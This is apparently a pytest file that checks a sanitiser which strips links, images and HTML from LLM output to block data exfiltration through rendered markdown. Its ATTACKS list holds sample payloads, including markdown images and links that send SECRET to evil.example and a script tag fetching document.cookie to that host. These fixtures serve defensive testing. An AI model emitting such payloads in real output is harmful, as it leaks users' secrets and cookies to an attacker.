"""Model output cannot make the browser load or open anything (OWASP LLM05)."""

from __future__ import annotations

import random
import re

import pytest
from markdown_it import MarkdownIt

from ui.render import neutralize, neutralize_stream

_MD = MarkdownIt("commonmark", {"html": True}).enable("table").enable("strikethrough")

ATTACKS = [
    "See ![logo](https://evil.example/x.png?q=SECRET) now",
    "click [here](https://evil.example/steal?d=SECRET)",
    "ref [here][1]\n\n[1]: https://evil.example/ref",
    "ref image ![x][img]\n\n[img]: https://evil.example/i.png",
    "<img src=https://evil.example/a.png onerror=alert(1)>",
    "<script>fetch('https://evil.example/'+document.cookie)</script>",
    "autolink <https://evil.example/auto> and <mail@evil.example>",
    "bare https://evil.example/path and www.evil.example and someone@evil.example",
    "escaped \\![x](https://evil.example/e.png) trick",
    "html <a href='https://evil.example'>x</a> entity &lt;img src=x&gt;",
    "math $\\href{https://evil.example}{x}$",
]


def _html(md: str) -> str:
    return _MD.render(md)


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_link_image_or_html_survives(attack: str) -> None:
    html = _html(neutralize(attack))
    assert "<a " not in html
    assert "<img" not in html
    assert "<script" not in html
    # No URL is left in a form a GFM autolinker would pick up.
    assert not re.search(r"https?://|www\.", neutralize(attack))


def test_visible_text_is_kept() -> None:
    text = "Travel by **train** [1]; budget < 200 EUR, see https://intranet/x.\n\n- item one"
    html = _html(neutralize(text))
    assert "<strong>train</strong>" in html
    assert "[1]" in html
    assert "&lt; 200 EUR" in html
    assert "https://intranet/x." in html  # shown as text
    assert "<li>item one</li>" in html


def test_fenced_code_is_verbatim() -> None:
    text = "Run:\n```bash\ncurl https://x/y [a](b)\n```\nthen [c](https://d)"
    out = neutralize(text)
    assert "curl https://x/y [a](b)\n" in out
    assert "<a " not in _html(out)
    assert out.endswith("then \\[c\\](https:\\/\\/d)")


def test_streaming_in_any_split_equals_whole() -> None:
    rng = random.Random(7)
    text = "\n".join(ATTACKS) + "\n```\ncode [x](y)\n```\nwww.after.example ![i](u)"
    whole = neutralize(text)
    for _ in range(50):
        cuts = sorted(rng.sample(range(1, len(text)), 12))
        parts = [text[i:j] for i, j in zip([0, *cuts], [*cuts, len(text)], strict=True)]
        assert "".join(neutralize_stream(parts)) == whole
    # Every prefix of the stream is itself safe.
    acc = ""
    for part in neutralize_stream(list(text)):
        acc += part
        assert "<img" not in _html(acc) and "<a " not in _html(acc)
